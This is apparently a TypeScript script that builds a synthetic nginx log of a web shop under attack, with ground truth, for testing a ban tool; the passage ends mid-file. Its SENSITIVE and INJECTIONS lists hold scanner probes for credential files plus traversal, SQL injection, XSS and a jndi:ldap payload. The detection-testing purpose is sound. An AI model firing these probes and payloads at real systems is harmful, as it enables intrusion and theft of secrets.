/**
 * The detection corpus: a deterministic nginx `combined` access log of a small web shop under
 * attack, with the ground truth an operator would judge a ban tool by (which sources are attackers,
 * when each one started, how fast it should be banned). Eight attack classes run at staggered
 * times over a benign background of visitors, NAT gateways, crawlers, health checks, API clients
 * and a bursty power user.
 *
 * `deno run --allow-write scripts/detection/generate_corpus.ts --out DIR [--class NAME]
 * [--seed N] [--span S] [--scale F]` writes `DIR/access.log` and `DIR/truth.json`.
 * @module
 */
import { join } from "node:path";
import { parseArgs } from "node:util";

/** 2026-11-02 10:00:00 +0000: the corpus's first second unless told otherwise. */
export const DEFAULT_START = Date.UTC(2026, 10, 2, 10, 0, 0) / 1000;
/** Log time the corpus spans by default, in seconds. */
export const DEFAULT_SPAN = 1200;
/** The span the attack schedule is written for; other spans stretch the start times. */
const REFERENCE_SPAN = 1200;

/** Attack classes, in the order they start in the mixed corpus. */
export const ATTACK_CLASSES = [
  "flood",
  "scanner",
  "credential_stuffing",
  "brute_force",
  "login_botnet",
  "login_flood_fast",
  "ua_rotation",
  "ipv6_rotation",
  "http_botnet",
  "soft_stuffing",
] as const;
/** Benign classes: traffic no ban tool may touch. */
export const BENIGN_CLASSES = [
  "browsing",
  "nat_gateway",
  "crawler",
  "health_check",
  "api_client",
  "power_user",
  "mobile_gateway",
] as const;
/** The name of an attack class. */
export type AttackClass = typeof ATTACK_CLASSES[number];
/** The name of a benign class. */
export type BenignClass = typeof BENIGN_CLASSES[number];
/** Any class name. */
export type ClassName = AttackClass | BenignClass;

/** Whether a class is an attacker to ban or traffic to spare. */
export type Kind = "attack" | "benign";

/** An attack class's goal: `share` of its sources banned within `seconds` of their first request. */
export interface Target {
  seconds: number;
  share: number;
}

/** One source of traffic: an address, or for a rotating IPv6 attacker its prefix (`…::/64`). */
export interface SourceTruth {
  source: string;
  /** Unix seconds of its first line (the log's 1-second resolution). */
  first: number;
  /** Unix seconds of its last line. */
  last: number;
  requests: number;
  /** Distinct addresses seen inside a prefix source. */
  addresses?: number;
}

/** Ground truth of one class in the log. */
export interface ClassTruth {
  name: ClassName;
  kind: Kind;
  description: string;
  target?: Target;
  lines: number;
  sources: SourceTruth[];
}

/** Ground truth of a generated corpus (`truth.json`). */
export interface Truth {
  format: "qts-detection-corpus/1";
  seed: number;
  /** `mixed`, `benign`, or the one class asked for. */
  selection: string;
  start: number;
  span: number;
  scale: number;
  lines: number;
  classes: ClassTruth[];
}

/** What to generate; every field has a default. */
export interface CorpusOptions {
  seed?: number;
  /**
   * `mixed` (default): every class. An attack class name: that attack over the whole benign
   * background. A benign class name: that class alone. `benign`: the background alone.
   */
  class?: string;
  /** Unix seconds of the first log second. */
  start?: number;
  /** Seconds of log time; attack start times stretch with it, their durations do not. */
  span?: number;
  /** Factor on the number of ordinary visitors (the bulk of the benign volume). */
  scale?: number;
}

/** A generated corpus: log lines sorted by time and their ground truth. */
export interface Corpus {
  lines: string[];
  truth: Truth;
}

// ---------------------------------------------------------------------------------------------
// Randomness

/** mulberry32: tiny, fast, and the same numbers on every platform for a seed. */
class Rng {
  #a: number;
  constructor(seed: number) {
    this.#a = seed >>> 0;
  }
  next(): number {
    this.#a = (this.#a + 0x6d2b79f5) >>> 0;
    let t = this.#a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  /** Uniform in [min, max). */
  uniform(min: number, max: number): number {
    return min + (max - min) * this.next();
  }
  /** Uniform integer in [min, max]. */
  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1));
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)]!;
  }
  /** Picks by weight from `[weight, value]` pairs. */
  weighted<T>(items: readonly (readonly [number, T])[]): T {
    let total = 0;
    for (const [w] of items) total += w;
    let x = this.next() * total;
    for (const [w, v] of items) {
      x -= w;
      if (x < 0) return v;
    }
    return items[items.length - 1]![1];
  }
  shuffle<T>(items: T[]): T[] {
    for (let i = items.length - 1; i > 0; i--) {
      const j = Math.floor(this.next() * (i + 1));
      [items[i], items[j]] = [items[j]!, items[i]!];
    }
    return items;
  }
  hex16(): string {
    // A non-zero group keeps generated IPv6 addresses canonical without `::` compression.
    return (1 + Math.floor(this.next() * 0xffff)).toString(16);
  }
}

/** FNV-1a of `seed:name`: each class draws from its own stream, so a class is the same bytes
 * whether it is generated alone or in the mixed corpus. */
function streamSeed(seed: number, name: string): number {
  let h = 0x811c9dc5;
  for (const ch of `${seed}:${name}`) {
    h ^= ch.charCodeAt(0);
    h = Math.imul(h, 0x01000193);
  }
  return h >>> 0;
}

// ---------------------------------------------------------------------------------------------
// The site: a shop with products, a blog, a search page, a login and static assets.

const SITE = "https://shop.example.com";
const CATALOG_RNG = new Rng(20261102);
const ADJECTIVES = [
  "merino",
  "linen",
  "waxed",
  "classic",
  "slim",
  "trail",
  "organic",
  "vintage",
  "canvas",
  "recycled",
  "alpine",
  "city",
  "cotton",
  "denim",
  "leather",
  "quilted",
];
const NOUNS = [
  "socks",
  "jacket",
  "backpack",
  "sneakers",
  "shirt",
  "scarf",
  "beanie",
  "wallet",
  "boots",
  "hoodie",
  "tote",
  "belt",
  "gloves",
  "parka",
  "chinos",
];
const PRODUCTS = Array.from(
  { length: 400 },
  (_, i) => `${CATALOG_RNG.pick(ADJECTIVES)}-${CATALOG_RNG.pick(NOUNS)}-${1000 + i}`,
);
const BLOG_WORDS = [
  "how",
  "to",
  "care",
  "for",
  "wool",
  "autumn",
  "layering",
  "guide",
  "packing",
  "list",
  "hiking",
  "city",
  "weekend",
  "gift",
  "ideas",
  "sizing",
  "explained",
  "behind",
  "the",
  "seams",
];
const BLOG_POSTS = Array.from({ length: 60 }, () => {
  const words = Array.from({ length: CATALOG_RNG.int(3, 6) }, () => CATALOG_RNG.pick(BLOG_WORDS));
  return words.join("-");
});
const CATEGORIES = [
  "men",
  "women",
  "kids",
  "outdoor",
  "accessories",
  "sale",
  "new-arrivals",
  "footwear",
];
const SEARCH_TERMS = [
  "rain+jacket",
  "wool+socks",
  "gift+ideas",
  "running+shoes",
  "black+friday",
  "size+guide",
  "backpack+30l",
  "linen+shirt",
  "return+policy",
  "leather+belt",
  "waterproof",
  "kids+boots",
];
/** Assets every page links, in the order a browser asks for them, with their sizes. */
const BASE_ASSETS: readonly (readonly [string, number])[] = [
  ["/css/main.b41e9d2c.css", 48213],
  ["/static/vendor.8e1d0c77.js", 284511],
  ["/static/app.3f9c2a1b.js", 96402],
  ["/fonts/inter-var.woff2", 108544],
  ["/fonts/inter-var-italic.woff2", 112060],
  ["/img/logo.svg", 2311],
  ["/img/icons/cart.svg", 611],
  ["/img/icons/search.svg", 498],
  ["/img/icons/user.svg", 702],
  ["/static/analytics.4c2d.js", 21877],
  ["/css/print.0c1d.css", 1930],
  ["/favicon.ico", 15086],
];

/** Stable size of a product image: the same file always has the same length. */
function imageBytes(id: number, variant: number): number {
  return 4000 + ((id * 7919 + variant * 104729) % 140000);
}

interface Page {
  path: string;
  /** Products shown, for image and XHR paths. */
  products: number[];
  html: number;
}

function randomPage(rng: Rng): Page {
  const kind = rng.weighted<string>([
    [15, "home"],
    [35, "product"],
    [10, "category"],
    [15, "blog"],
    [10, "search"],
    [5, "cart"],
    [3, "about"],
    [2, "contact"],
    [5, "reviews"],
  ]);
  const product = rng.int(0, PRODUCTS.length - 1);
  const many = () => Array.from({ length: 12 }, () => rng.int(0, PRODUCTS.length - 1));
  switch (kind) {
    case "home":
      return { path: "/", products: many(), html: rng.int(38000, 46000) };
    case "product":
      return {
        path: `/products/${PRODUCTS[product]}`,
        products: [product, product, product],
        html: rng.int(24000, 61000),
      };
    case "reviews":
      return {
        path: `/products/${PRODUCTS[product]}/reviews${rng.chance(0.3) ? "?page=2" : ""}`,
        products: [product],
        html: rng.int(18000, 52000),
      };
    case "category": {
      const page = rng.chance(0.6) ? "" : `&page=${rng.int(2, 6)}`;
      return {
        path: `/products?category=${rng.pick(CATEGORIES)}${page}`,
        products: many(),
        html: rng.int(52000, 90000),
      };
    }
    case "blog":
      return {
        path: `/blog/${rng.pick(BLOG_POSTS)}`,
        products: [product],
        html: rng.int(21000, 39000),
      };
    case "search":
      return {
        path: `/search?q=${rng.pick(SEARCH_TERMS)}`,
        products: many().slice(0, rng.int(0, 12)),
        html: rng.int(15000, 70000),
      };
    case "cart":
      return { path: "/cart", products: [product], html: rng.int(12000, 19000) };
    case "about":
      return { path: "/about", products: [], html: 14872 };
    default:
      return { path: "/contact", products: [], html: 9811 };
  }
}

// ---------------------------------------------------------------------------------------------
// User agents

const CHROME = [146, 147, 148, 149, 150, 151, 152, 153, 154, 155, 156];
const FIREFOX = [140, 148, 149, 150, 151, 152, 153, 154, 155, 156, 157, 158];
const ANDROID_MODELS = ["SM-S928B", "SM-A546B", "SM-G991B", "SM-S918B", "SM-A256E"];

/** A browser User-Agent as real visitors in late 2026 send them: desktop and mobile, varied. */
function browserUa(rng: Rng): string {
  const chrome = rng.pick(CHROME);
  const firefox = rng.pick(FIREFOX);
  const kind = rng.weighted<string>([
    [20, "chrome-win"],
    [7, "chrome-mac"],
    [3, "chrome-linux"],
    [20, "chrome-android"],
    [18, "safari-iphone"],
    [7, "safari-mac"],
    [2, "safari-ipad"],
    [8, "edge"],
    [4, "firefox-win"],
    [2, "firefox-mac"],
    [2, "firefox-linux"],
    [1, "firefox-android"],
    [4, "samsung"],
    [3, "chrome-ios"],
  ]);
  const ios = rng.pick(["18_6", "18_6", "18_7", "17_7"]);
  const safari = rng.pick(["26.0", "26.1", "26.2", "18.6", "18.7", "17.7"]);
  switch (kind) {
    case "chrome-win":
      return `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome}.0.0.0 Safari/537.36`;
    case "chrome-mac":
      return `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome}.0.0.0 Safari/537.36`;
    case "chrome-linux":
      return `Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome}.0.0.0 Safari/537.36`;
    case "chrome-android":
      return `Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome}.0.0.0 Mobile Safari/537.36`;
    case "safari-iphone":
      return `Mozilla/5.0 (iPhone; CPU iPhone OS ${ios} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${safari} Mobile/15E148 Safari/604.1`;
    case "safari-mac":
      return `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${safari} Safari/605.1.15`;
    case "safari-ipad":
      return `Mozilla/5.0 (iPad; CPU OS ${ios} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${safari} Mobile/15E148 Safari/604.1`;
    case "edge":
      return `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome}.0.0.0 Safari/537.36 Edg/${chrome}.0.${
        rng.int(3100, 3900)
      }.${rng.int(10, 140)}`;
    case "firefox-win":
      return `Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:${firefox}.0) Gecko/20100101 Firefox/${firefox}.0`;
    case "firefox-mac":
      return `Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:${firefox}.0) Gecko/20100101 Firefox/${firefox}.0`;
    case "firefox-linux":
      return `Mozilla/5.0 (X11; ${
        rng.chance(0.5) ? "Ubuntu; " : ""
      }Linux x86_64; rv:${firefox}.0) Gecko/20100101 Firefox/${firefox}.0`;
    case "firefox-android":
      return `Mozilla/5.0 (Android 15; Mobile; rv:${firefox}.0) Gecko/${firefox}.0 Firefox/${firefox}.0`;
    case "samsung":
      return `Mozilla/5.0 (Linux; Android 15; SAMSUNG ${
        rng.pick(ANDROID_MODELS)
      }) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/${
        rng.int(27, 29)
      }.0 Chrome/${chrome}.0.0.0 Mobile Safari/537.36`;
    default:
      return `Mozilla/5.0 (iPhone; CPU iPhone OS ${ios} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/${chrome}.0.${
        rng.int(7000, 7700)
      }.${rng.int(10, 200)} Mobile/15E148 Safari/604.1`;
  }
}

/** A browser-looking UA built from random full version numbers: near-unique per call, as a
 * scraper's UA randomiser makes them. */
function rotatingUa(rng: Rng): string {
  const major = rng.int(100, 156);
  const full = `${major}.0.${rng.int(4000, 7700)}.${rng.int(0, 250)}`;
  const platform = rng.pick([
    "Windows NT 10.0; Win64; x64",
    "Windows NT 6.1; Win64; x64",
    "Macintosh; Intel Mac OS X 10_15_7",
    "Macintosh; Intel Mac OS X 13_4_1",
    "X11; Linux x86_64",
    "X11; CrOS x86_64 14541.0.0",
  ]);
  if (rng.chance(0.2)) {
    const v = rng.int(100, 158);
    return `Mozilla/5.0 (${platform}; rv:${v}.0) Gecko/20100101 Firefox/${v}.0`;
  }
  return `Mozilla/5.0 (${platform}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${full} Safari/537.36`;
}

const SCANNER_UAS = [
  "sqlmap/1.7.2#stable (https://sqlmap.org)",
  "Nikto",
  "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
  "zgrab/0.x",
  "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
  "Mozilla/5.0 zgrab/0.x",
];

// ---------------------------------------------------------------------------------------------
// The log

const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

/** `$time_local` of a Unix second, in UTC: `02/Nov/2026:10:00:00 +0000`. */
export function timeLocal(seconds: number): string {
  const d = new Date(seconds * 1000);
  const p = (n: number) => String(n).padStart(2, "0");
  return `${p(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:` +
    `${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())} +0000`;
}

const encoder = new TextEncoder();

/** nginx's escaping of logged strings: `"`, `\`, control and non-ASCII bytes as `\xHH`. */
function escapeLog(text: string): string {
  if (/^[\x20-\x21\x23-\x5b\x5d-\x7e]*$/.test(text)) return text;
  let out = "";
  for (const byte of encoder.encode(text)) {
    out += byte < 0x20 || byte > 0x7e || byte === 0x22 || byte === 0x5c
      ? `\\x${byte.toString(16).toUpperCase().padStart(2, "0")}`
      : String.fromCharCode(byte);
  }
  return out;
}

interface Request {
  method?: string;
  path: string;
  proto?: string;
  status: number;
  bytes: number;
  referer?: string;
  ua: string;
}

interface Line {
  ms: number;
  seq: number;
  ip: string;
  rest: string;
}

interface SourceState {
  first: number;
  last: number;
  requests: number;
  addresses?: Set<string>;
}

/** Where one class writes: its random stream, its clock window and its ground truth. */
class ClassLog {
  readonly sources = new Map<string, SourceState>();
  lines = 0;
  constructor(
    readonly rng: Rng,
    readonly span: number,
    readonly start: number,
    readonly out: Line[],
    readonly seq: { n: number },
  ) {}

  /** Logs one request of `source` from `ip` at `t` seconds into the corpus; outside the span
   * it is dropped (a session that began before the window, an attack that runs past it). */
  request(source: string, ip: string, t: number, r: Request): void {
    const ms = Math.round(t * 1000);
    if (!(ms >= 0 && ms < this.span * 1000)) return;
    const second = this.start + Math.floor(ms / 1000);
    const request = `${r.method ?? "GET"} ${r.path} ${r.proto ?? "HTTP/2.0"}`;
    this.out.push({
      ms,
      seq: this.seq.n++,
      ip,
      rest: `"${escapeLog(request)}" ${r.status} ${r.bytes} "${escapeLog(r.referer ?? "-")}" "${
        escapeLog(r.ua === "" ? "-" : r.ua)
      }"`,
    });
    this.lines++;
    const state = this.sources.get(source);
    if (state === undefined) {
      const fresh: SourceState = { first: second, last: second, requests: 1 };
      if (source !== ip) fresh.addresses = new Set([ip]);
      this.sources.set(source, fresh);
    } else {
      if (second < state.first) state.first = second;
      if (second > state.last) state.last = second;
      state.requests++;
      state.addresses?.add(ip);
    }
  }
}

// ---------------------------------------------------------------------------------------------
// Benign behaviour

interface SessionOptions {
  /** Number of pages viewed. */
  pages: number;
  /** Probability that the session logs in (some mistype the password once). */
  login: number;
}

/** One visit: pages with their assets and XHRs, think time between pages, the odd 404 and 304,
 * sometimes a login. */
function browseSession(
  log: ClassLog,
  source: string,
  ip: string,
  ua: string,
  t0: number,
  options: SessionOptions,
): void {
  const rng = log.rng;
  const ios = ua.includes("iPhone") || ua.includes("iPad");
  let t = t0;
  let referer = rng.weighted<string>([
    [40, "-"],
    [30, "https://www.google.com/"],
    [8, "https://www.bing.com/"],
    [6, "https://duckduckgo.com/"],
    [6, "https://t.co/"],
    [10, "https://www.instagram.com/"],
  ]);
  const loginAt = rng.chance(options.login) ? rng.int(0, options.pages - 1) : -1;
  for (let p = 0; p < options.pages; p++) {
    const page = randomPage(rng);
    const missing = rng.chance(0.005);
    log.request(source, ip, t, {
      path: page.path,
      status: missing ? 404 : 200,
      bytes: missing ? 4927 : page.html,
      referer,
      ua,
    });
    const pageUrl = SITE + page.path;
    const count = rng.int(5, 30);
    const offsets = Array.from({ length: count }, () => rng.uniform(0.05, 2)).sort((a, b) => a - b);
    for (let i = 0; i < count; i++) {
      const at = t + offsets[i]!;
      const base = BASE_ASSETS[i];
      if (base !== undefined) {
        // Later pages revalidate a cached stylesheet or script now and then.
        const revalidated = p > 0 && /\.(css|js)$/.test(base[0]) && rng.chance(0.06);
        log.request(source, ip, at, {
          path: base[0],
          status: revalidated ? 304 : 200,
          bytes: revalidated ? 0 : base[1],
          referer: pageUrl,
          ua,
        });
      } else {
        const id = page.products[i % Math.max(1, page.products.length)] ?? rng.int(0, 399);
        const variant = i % 4;
        const gone = rng.chance(0.015);
        log.request(source, ip, at, {
          path: `/img/products/${1000 + id}-${[320, 640, 960, 1280][variant]}.webp`,
          status: gone ? 404 : 200,
          bytes: gone ? 162 : imageBytes(id, variant),
          referer: pageUrl,
          ua,
        });
      }
    }
    if (p === 0 && ios && rng.chance(0.6)) {
      // iOS asks for a touch icon the site does not have.
      for (const icon of ["/apple-touch-icon-precomposed.png", "/apple-touch-icon.png"]) {
        log.request(source, ip, t + rng.uniform(0.5, 2.5), {
          path: icon,
          status: 404,
          bytes: 162,
          ua,
        });
      }
    }
    // A single-page shop: the cart badge and product recommendations come by XHR.
    if (rng.chance(0.4)) {
      log.request(source, ip, t + rng.uniform(0.3, 2), {
        path: "/api/cart",
        status: 200,
        bytes: rng.int(90, 900),
        referer: pageUrl,
        ua,
      });
    }
    if (page.path.startsWith("/products/") && rng.chance(0.5)) {
      log.request(source, ip, t + rng.uniform(0.5, 2.5), {
        path: `/api/recommendations?product=${1000 + page.products[0]!}`,
        status: 200,
        bytes: rng.int(1200, 4800),
        referer: pageUrl,
        ua,
      });
    }
    referer = pageUrl;
    if (p === loginAt) {
      t += rng.uniform(5, 20);
      log.request(source, ip, t, { path: "/login", status: 200, bytes: 8211, referer, ua });
      t += rng.uniform(6, 20);
      if (rng.chance(0.35)) {
        // Mistyped once, then right.
        log.request(source, ip, t, {
          method: "POST",
          path: "/login",
          status: 401,
          bytes: 612,
          referer: `${SITE}/login`,
          ua,
        });
        t += rng.uniform(4, 12);
      }
      log.request(source, ip, t, {
        method: "POST",
        path: "/login",
        status: 200,
        bytes: 1843,
        referer: `${SITE}/login`,
        ua,
      });
      referer = `${SITE}/login`;
    }
    t += rng.uniform(5, 60);
  }
}

/** Pages per session: 1–10, mostly short visits. */
function sessionPages(rng: Rng): number {
  return Math.min(10, 1 + Math.floor(10 * rng.next() ** 2));
}

/** `n` distinct addresses `prefix.x.y` with x, y drawn from the class's stream. */
function distinctV4(rng: Rng, prefix: string, n: number): string[] {
  const seen = new Set<string>();
  const out: string[] = [];
  while (out.length < n) {
    const ip = `${prefix}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
    if (seen.has(ip)) continue;
    seen.add(ip);
    out.push(ip);
  }
  return out;
}

function genBrowsing(log: ClassLog, scale: number): void {
  const rng = log.rng;
  const visitors = Math.max(1, Math.round(2000 * scale));
  const v4 = distinctV4(rng, "198.18", visitors);
  for (let i = 0; i < visitors; i++) {
    // One in five visitors comes over IPv6, each from its own /64.
    const ip = rng.chance(0.2)
      ? `2001:db8:100:${rng.hex16()}:${rng.hex16()}:${rng.hex16()}:${rng.hex16()}:${rng.hex16()}`
      : v4[i]!;
    // Sessions start before the window too, so the log opens in steady state.
    const t0 = rng.uniform(-120, log.span);
    browseSession(log, ip, ip, browserUa(rng), t0, { pages: sessionPages(rng), login: 0.05 });
  }
}

function genNatGateway(log: ClassLog): void {
  const rng = log.rng;
  for (const ip of ["192.0.2.10", "192.0.2.11", "192.0.2.12"]) {
    const uas = new Set<string>();
    while (uas.size < 60) uas.add(browserUa(rng));
    for (const ua of uas) {
      // Each person visits once or twice in the window.
      const visits = rng.int(1, 2);
      for (let v = 0; v < visits; v++) {
        // Inside the window, so the address shows all sixty browsers.
        browseSession(log, ip, ip, ua, rng.uniform(0, log.span * 0.95), {
          pages: sessionPages(rng),
          login: 0.05,
        });
      }
    }
  }
}

/** A carrier's gateway (the public side of its CGNAT): 150 people behind one address, about 50
 * of them browsing at any moment, together past 2 page and XHR requests a second. */
function genMobileGateway(log: ClassLog): void {
  const rng = log.rng;
  const ip = "192.0.2.20";
  for (let person = 0; person < 150; person++) {
    const ua = browserUa(rng);
    for (let visit = 0; visit < 3; visit++) {
      browseSession(log, ip, ip, ua, rng.uniform(-120, log.span), {
        pages: 2 + sessionPages(rng),
        login: 0.05,
      });
    }
  }
}

function genPowerUser(log: ClassLog): void {
  const rng = log.rng;
  const ip = "192.0.2.50";
  const users = 4;
  for (let u = 0; u < users; u++) {
    const ua = browserUa(rng);
    for (let s = 0; s < 2; s++) {
      browseSession(log, ip, ip, ua, rng.uniform(0, log.span), {
        pages: rng.int(3, 10),
        login: 0.2,
      });
    }
    // Once: twenty tabs from a list page in two seconds, each page with its images; the
    // stylesheet and scripts come from the cache after the first tab. Bursts are spread over
    // the window so the address never sees two at once.
    const at = log.span * (u + 0.5) / users + rng.uniform(-30, 30);
    for (let tab = 0; tab < 20; tab++) {
      const t = at + tab * 0.1 + rng.uniform(0, 0.05);
      const product = rng.int(0, PRODUCTS.length - 1);
      const pageUrl = `${SITE}/products/${PRODUCTS[product]}`;
      log.request(ip, ip, t, {
        path: `/products/${PRODUCTS[product]}`,
        status: 200,
        bytes: rng.int(24000, 61000),
        referer: `${SITE}/products?category=${rng.pick(CATEGORIES)}`,
        ua,
      });
      const assets = tab === 0 ? BASE_ASSETS.length : 0;
      for (let i = 0; i < assets; i++) {
        const [path, bytes] = BASE_ASSETS[i]!;
        log.request(ip, ip, t + rng.uniform(0.05, 1), {
          path,
          status: 200,
          bytes,
          referer: pageUrl,
          ua,
        });
      }
      for (let i = 0, n = rng.int(3, 8); i < n; i++) {
        log.request(ip, ip, t + rng.uniform(0.1, 1.5), {
          path: `/img/products/${1000 + product}-${[320, 640, 960, 1280][i % 4]}.webp`,
          status: 200,
          bytes: imageBytes(product, i % 4),
          referer: pageUrl,
          ua,
        });
      }
    }
  }
}

function genCrawler(log: ClassLog): void {
  const rng = log.rng;
  const bots = [
    {
      ua: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
      ips: ["66.249.66.1", "66.249.66.34", "66.249.66.67", "66.249.66.160"],
      mean: 2.5,
    },
    {
      ua: "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
      ips: ["157.55.39.10", "157.55.39.77", "157.55.39.201"],
      mean: 4,
    },
  ];
  for (const bot of bots) {
    for (const ip of bot.ips) {
      let t = rng.uniform(0, 20);
      log.request(ip, ip, t, {
        path: "/robots.txt",
        proto: "HTTP/1.1",
        status: 200,
        bytes: 412,
        ua: bot.ua,
      });
      while (t < log.span) {
        // ≥ 0.21 s apart: never more than 5 requests in one log second.
        t += Math.max(0.21, -Math.log(1 - rng.next()) * bot.mean);
        const roll = rng.next();
        let path: string;
        let status = 200;
        let bytes: number;
        if (roll < 0.02) {
          path = "/robots.txt";
          bytes = 412;
        } else if (roll < 0.05) {
          path = rng.pick(["/sitemap.xml", "/sitemap-products.xml", "/sitemap-blog.xml"]);
          bytes = rng.int(8000, 90000);
        } else if (roll < 0.09) {
          // Discontinued products and dead links stay in the index for a while.
          path = `/products/${rng.pick(ADJECTIVES)}-${rng.pick(NOUNS)}-${rng.int(200, 999)}`;
          status = 404;
          bytes = 4927;
        } else if (roll < 0.11) {
          path = `/product.php?id=${rng.int(1, 400)}`;
          status = 301;
          bytes = 162;
        } else if (roll < 0.13) {
          path = rng.pick(["/css/main.b41e9d2c.css", "/static/app.3f9c2a1b.js", "/img/logo.svg"]);
          bytes = 48213;
        } else {
          const page = randomPage(rng);
          path = page.path;
          bytes = page.html;
        }
        log.request(ip, ip, t, { path, proto: "HTTP/1.1", status, bytes, ua: bot.ua });
      }
    }
  }
}

function genHealthCheck(log: ClassLog): void {
  const rng = log.rng;
  const probes = [
    ["10.0.0.12", "kube-probe/1.29"],
    ["10.0.3.45", "kube-probe/1.29"],
    ["192.168.1.10", "ELB-HealthChecker/2.0"],
  ] as const;
  for (const [ip, ua] of probes) {
    for (let t = rng.uniform(0, 2); t < log.span; t += rng.uniform(1, 2)) {
      log.request(ip, ip, t, { path: "/healthz", proto: "HTTP/1.1", status: 200, bytes: 2, ua });
    }
  }
}

function genApiClient(log: ClassLog): void {
  const rng = log.rng;
  // An order exporter polling about once a second (never twice in one log second).
  const exporter = "192.0.2.80";
  for (let t = rng.uniform(0, 2); t < log.span; t += rng.uniform(1.05, 1.6)) {
    log.request(exporter, exporter, t, {
      path: `/api/v1/orders?since=${DEFAULT_START + Math.floor(t) - 60}&limit=100`,
      proto: "HTTP/1.1",
      status: 200,
      bytes: rng.int(80, 6000),
      ua: "python-requests/2.31.0",
    });
  }
  // An uptime monitor's API checks.
  const monitor = "192.0.2.81";
  for (let t = rng.uniform(0, 10); t < log.span; t += rng.uniform(5, 15)) {
    log.request(monitor, monitor, t, {
      path: rng.pick(["/api/v1/status", "/api/v1/metrics", "/api/v1/inventory/summary"]),
      proto: "HTTP/1.1",
      status: 200,
      bytes: rng.int(120, 2400),
      ua: "curl/8.5.0",
    });
  }
}

// ---------------------------------------------------------------------------------------------
// Attacks. `at` is the class's start in seconds into the corpus.

function genFlood(log: ClassLog, at: number): void {
  const rng = log.rng;
  for (const ip of ["203.0.113.11", "203.0.113.12", "203.0.113.13"]) {
    const ua = browserUa(rng);
    const begin = at + rng.int(0, 5);
    for (let s = 0; s < 60; s++) {
      const n = rng.int(52, 68);
      for (let i = 0; i < n; i++) {
        const page = randomPage(rng);
        log.request(ip, ip, begin + s + (i + rng.next() * 0.9) / n, {
          path: page.path,
          proto: "HTTP/1.1",
          status: 200,
          bytes: page.html,
          ua,
        });
      }
    }
  }
}

const SENSITIVE = [
  "/.env",
  "/.env.local",
  "/.env.production",
  "/.env.bak",
  "/.git/config",
  "/.git/HEAD",
  "/.git/index",
  "/.gitignore",
  "/.svn/entries",
  "/.hg/hgrc",
  "/.DS_Store",
  "/.htaccess",
  "/.htpasswd",
  "/wp-login.php",
  "/wp-admin/",
  "/wp-config.php.bak",
  "/wp-config.php~",
  "/wp-config.old",
  "/wp-content/debug.log",
  "/xmlrpc.php",
  "/wp-json/wp/v2/users",
  "/phpmyadmin/",
  "/phpmyadmin",
  "/phpMyAdmin/",
  "/pma/",
  "/myadmin/",
  "/adminer.php",
  "/admin/config.php",
  "/admin",
  "/administrator/",
  "/admin.php",
  "/login.php",
  "/manager/html",
  "/console/",
  "/actuator/env",
  "/actuator/heapdump",
  "/solr/admin/",
  "/jenkins/login",
  "/backup.zip",
  "/backup.tar.gz",
  "/site.zip",
  "/www.zip",
  "/db.sql",
  "/dump.sql",
  "/database.sql",
  "/backup.sql",
  "/.aws/credentials",
  "/.ssh/id_rsa",
  "/.docker/config.json",
  "/config.json",
  "/config.yml",
  "/docker-compose.yml",
  "/.npmrc",
  "/.bash_history",
  "/server-status",
  "/server-info",
  "/phpinfo.php",
  "/info.php",
  "/test.php",
  "/shell.php",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/boaform/admin/formLogin",
  "/HNAP1/",
  "/owa/auth/logon.aspx",
  "/remote/login",
  "/cgi-bin/luci",
  "/.vscode/sftp.json",
  "/config/database.yml",
  "/v2/_catalog",
  "/telescope/requests",
  "/_profiler/phpinfo",
  "/storage/logs/laravel.log",
  "/elmah.axd",
  "/web.config",
  "/WEB-INF/web.xml",
];
/** Payloads against pages that exist: they answer 200 or 400, not 404. */
const INJECTIONS = [
  "/cgi-bin/..%2f..%2f..%2f..%2fetc/passwd",
  "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
  "/?id=1'%20OR%20'1'='1",
  "/?id=1%27%20OR%20%271%27%3D%271",
  "/index.php?page=../../../../etc/passwd",
  "/index.php?id=1%20UNION%20SELECT%201,2,3--",
  "/products?category=men'%20AND%20SLEEP(5)--",
  "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "/<script>alert(document.domain)</script>",
  "/search?q=${jndi:ldap://198.51.100.7/a}",
];
const SCAN_DIRS = ["/old", "/backup", "/new", "/dev", "/staging", "/api", "/app", "/wp", "/shop"];

/** What every scanner tries first: sensitive files at the root, and injections. */
const CORE_PATHS = [...SENSITIVE, ...INJECTIONS];
/** What they try next: the same files under common directories. */
